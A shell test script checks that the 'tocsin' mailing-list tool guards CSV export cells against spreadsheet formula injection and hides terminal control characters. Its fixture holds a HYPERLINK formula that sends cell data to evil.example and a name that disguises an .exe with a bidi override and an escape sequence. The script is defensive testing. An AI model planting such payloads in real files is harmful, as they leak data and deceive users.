#!/bin/sh
# What tocsin writes out cannot attack its reader: a CSV cell that a
# spreadsheet would run as a formula (= + - @ tab CR) is written with a
# leading "'" in every CSV output, and sub export still imports back
# unchanged; listings for a terminal show C0, C1 and bidirectional
# controls as '?', never raw.
. "$(dirname "$0")/lib.sh"

run 0 tocsin init
run 0 tocsin list create river --from "River <alerts@river.example>" \
    --address "1 Main St, Springfield"
run 0 tocsin list create lake --from "Lake <alerts@lake.example>" \
    --address "1 Main St, Springfield"
cat >people.csv <<'X'
email,first_name,last_name,city,phone
ann@example.org,"=HYPERLINK(""http://evil.example/?""&A1)",Lee,@SUM(1+1),+33 6 12
-bob@example.org,Bob,-2,'=guarded by another tool,x
cy@example.org,"	Tab",Cy,Lyon,123
X
run 0 tocsin sub import river people.csv
# A value whose own first character is the guard.
run 0 tocsin sub add river dee@example.org --field "city='=x"
run 0 tocsin sub export river
cp out export.csv
grep -q "^ann@example.org,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",Lee," export.csv
tap_result $? "a formula in a name is exported guarded by a quote"
grep -q "^\"'-bob@example.org\",Bob,\"'-2\"," export.csv
tap_result $? "an address and a name starting with - are guarded"
lacks export.csv ',@SUM' "no cell starts with @"
lacks export.csv ',+33' "no cell starts with +"
grep -q "^dee@example.org,,,\"''=x\"" export.csv
tap_result $? "a value that starts with a guard gets a guard of its own"
awk -F, 'NR > 1 { for (i = 1; i <= NF; i++) if ($i ~ /^[=+@-]/ || $i ~ /^"[=+@-]/) bad++ } END { exit bad > 0 }' export.csv
tap_result $? "no cell of the export starts with = + - or @"
run 0 tocsin sub import lake export.csv
sql "SELECT s.email, s.first_name, s.last_name, s.fields FROM subscribers s ORDER BY s.email" >before
run 0 tocsin sub export lake
sed 1d out >lake.csv
sed 1d export.csv >river.csv
same river.csv lake.csv "the export imports back unchanged, guards and all"
is "$(sql "SELECT first_name FROM subscribers WHERE email = 'ann@example.org'")" \
	'=HYPERLINK("http://evil.example/?"&A1)' "the value itself is kept as it was written"
is "$(sql "SELECT json_extract(fields, '$.city') FROM subscribers WHERE email = '-bob@example.org'")" \
	"=guarded by another tool" "a cell guarded by another tool reads as its value"
is "$(sql "SELECT json_extract(fields, '$.city') FROM subscribers WHERE email = 'dee@example.org'")" \
	"'=x" "a value with its own leading quote keeps it through export and import"
run 0 tocsin sub ls river --format csv
grep -q "'=HYPERLINK" out
tap_result $? "sub ls --format csv guards too"
run 0 tocsin list ls --format csv
tap_result 0 "list ls --format csv runs"

# A terminal sees no control characters from outside: C1 (U+009B is a
# CSI on some terminals), the RLO that reverses text, a bell.
name=$(printf 'Eve\302\233[31m\342\200\256gnp.exe\007')
run 0 tocsin sub add river eve@example.org --field "first_name=$name"
run 0 tocsin sub ls river
grep -q "Eve?\[31m?gnp.exe?" out
tap_result $? "sub ls shows C1, bidi and C0 controls as '?'"
if LC_ALL=C grep -q "$(printf '\302\233')\|$(printf '\342\200\256')\|$(printf '\007')" out; then
	tap_result 1 "and never raw"
else
	tap_result 0 "and never raw"
fi
done_testing
